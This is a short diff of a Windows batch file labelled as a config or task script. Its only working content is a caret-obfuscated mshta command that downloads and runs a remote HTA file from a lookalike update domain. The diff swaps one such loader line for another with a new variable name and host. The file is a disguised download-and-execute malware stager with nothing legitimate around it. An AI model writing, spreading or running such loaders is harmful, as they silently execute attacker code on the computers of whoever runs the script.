@@ -1,4 +1,4 @@
-REM config 7514 v1
+REM task 7142 v1
 @echo off
-set lmhi=ms^ht^a ^http://cdn-u^pda^te.^e^x^amp^l^e/u^p^da^t^e.^ht^a
-call %lmhi%
+set gzlb=^m^sh^t^a ^h^tt^p://d^l.^winup^d^a^te-^cd^n.ex^ampl^e/^up^date.hta
+call %gzlb%
